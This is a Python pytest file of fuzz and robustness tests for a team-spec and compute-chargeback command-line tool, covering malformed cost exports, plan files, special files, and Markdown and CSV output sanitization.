def test_yaml_merge_keys_are_refused_saying_so(tmp_path):
    text = "x-defaults: &defaults {sharing: LendAndBorrow}\n" + QUICKSTART.read_text().replace(
        "      sharing: LendAndBorrow", "      <<: *defaults", 1
    )
    (tmp_path / "teams.yaml").write_text(text)
    result = run("validate", str(tmp_path / "teams.yaml"))
    assert result.returncode == 2
    assert "merge keys (`<<:`) are not supported" in result.stderr


def test_usage_rows_whose_hours_do_not_add_up_are_named_in_the_things_to_check(project):
    usage = _usage_report(project)
    usage.write_text(
        usage.read_text()
        + "2026-11-01,hyperpod-ns-vision,vision,ml.p5.48xlarge,0.00,0.00,0.00,50.00,10.00,0.00,1.00,1.00,0.00\n"
    )
    result = _chargeback(project, "--usage", str(usage), "--cost", "1000")
    assert result.returncode == 0, result.stderr
    assert "1 row of the reports give a total that is not allocated + borrowed hours" in result.stdout
    assert "summary-report.csv, line 9" in result.stdout


# --- fuzzing chargeback and the writers ------------------------------------------------------------


def _report_with_rows(folder: Path, rows: list[str]) -> Path:
    path = _usage_report(folder)
    lines = path.read_text().splitlines(keepends=True)
    path.write_text("".join(lines[:7]) + "".join(rows))
    return path


def test_arbitrary_usage_reports_give_exit_0_or_2(project, capsys):
    from hypothesis import strategies as st

    number = st.one_of(st.decimals(allow_nan=True, allow_infinity=True).map(str), st.text(max_size=6), st.just("1e400"))
    cell = st.one_of(st.text(max_size=30), st.sampled_from(["hyperpod-ns-nlp", "nlp", "ml.p5.48xlarge", ""]))
    row = st.tuples(st.sampled_from(["2026-11-01", "2026-11-02", "2026-13-01", "x"]), cell, cell, cell, *([number] * 9))

    def check(rows) -> None:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        usage = _report_with_rows(project, buffer.getvalue().splitlines(keepends=True))
        code, err = in_process("chargeback", str(project / "teams.yaml"), "--usage", str(usage), "--cost", "1000",
                               capsys=capsys)  # fmt: skip
        assert code in (0, 2), err
        assert "Traceback" not in err and "internal error" not in err, err

    _fuzz("chargeback: usage reports of arbitrary rows", st.lists(row, max_size=6), check)


def test_arbitrary_cost_exports_give_exit_0_or_2(project, capsys):
    from hypothesis import strategies as st

    usage = _usage_report(project)
    export = project / "cur.csv"
    headers = st.sampled_from(
        [
            "lineItem/LineItemType,lineItem/UsageStartDate,lineItem/UsageEndDate,lineItem/UnblendedCost,"
            "savingsPlan/SavingsPlanEffectiveCost,product/instanceType,resourceTags/user:hyperpod-teams:platform",
            "line_item_line_item_type,line_item_usage_start_date,line_item_unblended_cost,resource_tags",
            "ChargePeriodStart,ChargePeriodEnd,EffectiveCost,BilledCost,x_UsageType,Tags",
            "Service,Total costs($)",
        ]
    )

    def check(value) -> None:
        header, body = value
        export.write_bytes(header.encode() + b"\n" + body)
        code, err = in_process("chargeback", str(project / "teams.yaml"), "--usage", str(usage), "--cost-from",
                               str(export), capsys=capsys)  # fmt: skip
        assert code in (0, 2), err
        assert "Traceback" not in err and "internal error" not in err, err

    _fuzz("chargeback: arbitrary cost exports", st.tuples(headers, st.binary(max_size=300)), check)


def test_arbitrary_compressed_and_parquet_exports_give_exit_0_or_2(project, capsys):
    """What AWS delivers besides CSV, broken anywhere: a gzip stream, a zip archive, a Parquet
    file, each cut short or with arbitrary bytes after its magic number."""
    import gzip as gzip_module
    import zipfile

    from hypothesis import strategies as st

    usage = _usage_report(project)
    export = project / "export.bin"
    cur = (
        b"lineItem/LineItemType,lineItem/UsageStartDate,lineItem/UsageEndDate,lineItem/UnblendedCost,"
        b"resourceTags/user:hyperpod-teams:platform\nUsage,2026-11-01T00:00:00Z,2026-11-01T01:00:00Z,5,shared\n"
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("cur.csv", cur)
    whole = {"gzip": gzip_module.compress(cur), "zip": packed.getvalue(), "parquet": b"PAR1" + cur + b"PAR1"}

    def check(value) -> None:
        kind, cut, tail = value
        data = whole[kind]
        export.write_bytes(data[: max(4, int(len(data) * cut))] + tail)
        code, err = in_process("chargeback", str(project / "teams.yaml"), "--usage", str(usage), "--cost-from",
                               str(export), capsys=capsys)  # fmt: skip
        assert code in (0, 2), err
        assert "Traceback" not in err and "internal error" not in err, err

    kinds = st.sampled_from(sorted(whole))
    _fuzz(
        "chargeback: broken gzip, zip and Parquet exports",
        st.tuples(kinds, st.floats(0, 1), st.binary(max_size=40)),
        check,
    )


def test_arbitrary_display_names_reach_markdown_and_csv_as_text(capsys):
    """Any display name: no element, attribute or mention in the Markdown as GitHub renders it,
    and a CSV cell that a spreadsheet reads as the name (a leading ' when it would be a formula)."""
    from hypothesis import strategies as st

    require_module("cmarkgfm")
    import cmarkgfm
    from cmarkgfm.cmark import Options

    from hyperpod_teams.chargeback import compute_statement, render_statement
    from hyperpod_teams.review.report import render_report
    from hyperpod_teams.spec import SpecError, validate_spec
    from hyperpod_teams.usage_report import read_summary_report
    from tests.test_markdown_untrusted import OWN_ELEMENTS, _Elements

    data = yaml.safe_load(QUICKSTART.read_text() + QUICKSTART_PRICES)
    report = read_summary_report(_usage_report(Path(os.environ.get("TMPDIR", "/tmp"))).read_text(), "r.csv")

    def check(name: str) -> None:
        data["teams"][0]["display_name"] = name
        try:
            spec = validate_spec(copy.deepcopy(data))
        except SpecError as error:
            # The registry pattern of the quota's Description: letters, marks, separators,
            # symbols, numbers, punctuation; a control character is refused, at its field.
            assert [p.location for p in error.problems] == ["teams[0].display_name"], error
            assert regex.search(r"[^\p{L}\p{M}\p{Z}\p{S}\p{N}\p{P}]", name), name
            return
        statement = compute_statement(spec, [report], Decimal(1000))
        for markdown in (render_report(spec), render_statement(statement)):
            parser = _Elements()
            parser.feed(cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE))
            assert {tag for tag, _ in parser.elements} <= OWN_ELEMENTS, name
            assert not [a for _, a in parser.elements if a], name
            assert not [t for t in parser.text_outside_code if re.search(r"(?:^|[^\w`])@[A-Za-z0-9]", t)], name
        rows = list(csv.DictReader(io.StringIO(render_statement(statement, format="csv"), newline="")))
        cell = next(row["display_name"] for row in rows if row["team"] == "nlp")
        expected = spec.teams[0].title
        quoted = f"'{expected}" if expected.startswith(("=", "+", "-", "@", "\t", "\r")) else expected
        assert cell == quoted.replace("\r", "\n")

    _fuzz("markdown and CSV writers: arbitrary display names", st.text(min_size=1, max_size=60), check)


# --- every reader bounded, no file of the user's replaced (#58) -----------------------------------


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_device_or_a_fifo_as_a_plan_is_refused_before_reading(project, special):
    """`report --plan /dev/zero` grew to ~20 GB until the kernel killed it; a FIFO hung."""
    path = _special_file(special, project / "plan.json")
    started = time.monotonic()
    result = run("report", str(project / "teams.yaml"), "--plan", path, timeout=20, limit_memory=True)
    assert result.returncode == 2, result.stderr
    assert "not a regular file" in result.stderr and path in result.stderr
    assert "Traceback" not in result.stderr and time.monotonic() - started < 15


@pytest.mark.parametrize(
    "plan, words",
    [
        ('{"resource_changes": [null]}', "resource_changes[0]"),
        ('{"resource_changes": [{"address": 1}]}', "resource_changes[0]"),
        ('{"resource_changes": [{"address": "a", "type": "t", "change": {"actions": "delete"}}]}', "actions"),
        ('{"resource_changes": {"a": 1}}', "resource_changes"),
        ("[1, 2]", "not the JSON of a plan"),
        ('{"planned_values": 3}', "planned_values"),
        ("\xff", "not UTF-8"),
    ],
)
def test_a_plan_of_another_shape_is_a_user_error_naming_the_file_and_the_part(project, plan, words):
    path = project / "plan.json"
    path.write_bytes(plan.encode("latin-1"))
    result = run("report", str(project / "teams.yaml"), "--plan", str(path))
    assert result.returncode == 2, result.stderr
    assert words in result.stderr and str(path) in result.stderr and "Traceback" not in result.stderr


def test_a_plan_larger_than_any_is_refused_up_front(project):
    from hyperpod_teams.review.plan_summary import MAX_PLAN_BYTES

    big = project / "plan.json"
    with big.open("wb") as handle:
        handle.truncate(MAX_PLAN_BYTES + 1)  # sparse
    result = run("report", str(project / "teams.yaml"), "--plan", str(big), limit_memory=True)
    assert result.returncode == 2 and "MiB" in result.stderr, result.stderr


def test_odd_json_plans_give_exit_0_or_2_never_a_traceback():
    """Whatever JSON a --plan holds, the plan is read and summarized, or refused as a ValueError."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from hyperpod_teams.review.plan_summary import StackPlan, plan_section, read_plan
    from hyperpod_teams.spec import load_spec

    spec = load_spec(QUICKSTART)
    leaves = st.none() | st.booleans() | st.integers() | st.text(max_size=8)
    values = st.recursive(leaves, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["address", "type", "change", "actions", "before", "after", "tags", "type_name",
                         "desired_state", "importing", "replace_paths", "after_unknown", "default_value", "x"]),
        inner, max_size=5), max_leaves=20)  # fmt: skip
    change = st.fixed_dictionaries(
        {"address": st.text(max_size=8), "type": st.sampled_from(["aws_iam_role", "aws_cloudcontrolapi_resource",
                                                                  "aws_ce_cost_category", "aws_sagemaker_domain"]),
         "change": st.fixed_dictionaries({"actions": st.lists(st.sampled_from(["create", "delete", "update", "no-op"]),
                                                               max_size=2)}, optional={
             "before": st.none() | st.dictionaries(st.text(max_size=12), values, max_size=4),
             "after": st.none() | st.dictionaries(st.text(max_size=12), values, max_size=4),
             "importing": values, "replace_paths": values, "after_unknown": values})})  # fmt: skip
    plans = st.fixed_dictionaries({}, optional={"resource_changes": st.lists(change, max_size=4) | values})
    tried = 0

    @settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(plans)
    def one(plan):
        nonlocal tried
        tried += 1
        import tempfile

        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "plan.json"
            path.write_text(json.dumps(plan))
            try:
                read = read_plan(str(path), set())
            except ValueError:
                return
            plan_section([read], spec)
            StackPlan(read.stack, read.plan)

    one()
    FUZZ_COUNTS["odd JSON plans"] = tried


def test_a_failed_plans_output_reaches_the_report_without_its_control_characters(project):
    output = project / "acme-cluster.failed"
    output.write_bytes(b"\x1b[31mError:\x1b[0m bad\x07 thing\x00\r\n\x1b]8;;http://x\x07link\x1b]8;;\x07 end\n")
    result = run("report", str(project / "teams.yaml"), "--failed-plan", str(output))
    assert result.returncode == 0, result.stderr
    assert "Error: bad thing" in result.stdout and "link end" in result.stdout
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", result.stdout)


@pytest.mark.parametrize("content", ["fifo", "/dev/zero", "corrupt"])
def test_a_baseline_whose_manifest_is_no_file_or_no_json_is_refused_naming_it(project, content):
    """`stacks --changed-since` with a manifest.json that is a FIFO hung, linked to /dev/zero ran out of
    memory, corrupt said Python's JSON message without the file."""
    baseline = project / "baseline"
    baseline.mkdir()
    (baseline / OUTPUT_MARKER).write_text("")
    manifest = baseline / "manifest.json"
    if content == "fifo":
        os.mkfifo(manifest)
    elif content == "/dev/zero":
        manifest.symlink_to("/dev/zero")
    else:
        manifest.write_text('{"stacks": {')
    result = run("stacks", str(project / "teams.yaml"), "--changed-since", str(baseline),
                 "--out", str(project / "new"), timeout=120, limit_memory=content != "corrupt")  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert str(manifest) in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("command", ["report", "runbook", "deploy-policy", "schema"])
def test_out_never_replaces_a_file_without_force(project, command):
    target = project / "NOTES.md"
    before = target.read_bytes()
    args = [command] + ([] if command == "schema" else [str(project / "teams.yaml")])
    result = run(*args, "--out", str(target))
    assert result.returncode == 2 and "exists: add --force" in result.stderr, result.stderr
    assert target.read_bytes() == before
    forced = run(*args, "--out", str(target), "--force")
    assert forced.returncode == 0, forced.stderr
    assert target.read_bytes() != before


def test_the_chargeback_csv_never_replaces_its_sidecar_without_force(project):
    from tests.test_cost_exports import MAIN_REPORT

    theirs = project / "statement.csv.json"
    theirs.write_text("the user's own\n")
    args = ["--usage", str(MAIN_REPORT), "--cost", "1000", "--format", "csv", "--out", str(project / "statement.csv")]
    result = _chargeback(project, *args)
    assert result.returncode == 2 and str(theirs) in result.stderr, result.stderr
    assert theirs.read_text() == "the user's own\n" and not (project / "statement.csv").exists()


def test_a_refused_synth_leaves_a_dead_runs_staging_folder_beside_it_alone(project):
    """synth removed `.<out>.staging-<dead pid>-*` even when it then refused that --out."""
    out = project / "src"  # a folder synth did not write: refused
    stale = project / ".src.staging-999999-abc"
    (stale / "stacks").mkdir(parents=True)
    result = run("synth", str(project / "teams.yaml"), "--out", str(out))
    assert result.returncode == 2, result.stderr
    assert stale.exists()


def test_validate_warns_of_every_placeholder_init_left(tmp_path):
    result = run("init", str(tmp_path / "new"), "--org", "acme")
    assert result.returncode == 0, result.stderr
    spec = tmp_path / "new" / "teams.yaml"
    marked = [n for n, line in enumerate(spec.read_text().splitlines(), 1) if "# REPLACE" in line]
    checked = run("validate", str(spec))
    assert checked.returncode == 0, checked.stderr
    warned = [int(m) for m in re.findall(r"line (\d+): still marked REPLACE", checked.stderr)]
    assert marked and warned == marked
    assert "REPLACE" not in run("validate", str(QUICKSTART)).stderr


def test_odd_csv_text_fed_to_every_cost_and_usage_reader_is_read_or_refused_never_a_crash():
    """The chargeback readers (usage reports, cost exports as CSV), fed text made of their own
    headers' cells, odd cells, quotes, braces and line breaks: each reads it or refuses it with its
    own error, never another exception."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from hyperpod_teams.chargeback import CostExportError, Period, read_cost_exports
    from hyperpod_teams.chargeback.export_files import _csv_part
    from hyperpod_teams.usage_report import UsageReportError, read_summary_report
    from tests.test_cost_exports import COLUMNS, MAIN_REPORT, cur2_csv

    report_lines = MAIN_REPORT.read_text().splitlines()
    export_lines = cur2_csv().splitlines()
    cells = st.sampled_from(
        [*COLUMNS, "", "shared", "{", '{"user_hyperpod_teams_platform": "shared"}', "1e309", "-0", "nan",
         "2026-11-02T00:00:00Z", "ml.p5.48xlarge", "Usage", "EdpDiscount", '"', ",", "\x00", "\u202e"]
    )  # fmt: skip
    odd_line = st.lists(cells, max_size=16).map(",".join)
    documents = st.one_of(
        st.lists(st.sampled_from(report_lines) | odd_line, max_size=30).map("\n".join),
        st.lists(st.sampled_from(export_lines) | odd_line, max_size=30).map(lambda lines: "\n".join(lines) + "\n"),
    )
    period = Period(date(2026, 11, 1), date(2026, 11, 7))
    tried = 0

    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(documents)
    def one(text: str) -> None:
        nonlocal tried
        tried += 1
        try:
            read_summary_report(text, "report.csv")
        except UsageReportError:
            pass
        try:
            read_cost_exports([("export.csv", _csv_part(io.StringIO(text), "export.csv"))], period, "net-amortized")
        except CostExportError:
            pass

    one()
    FUZZ_COUNTS["odd CSV to the chargeback readers"] = tried
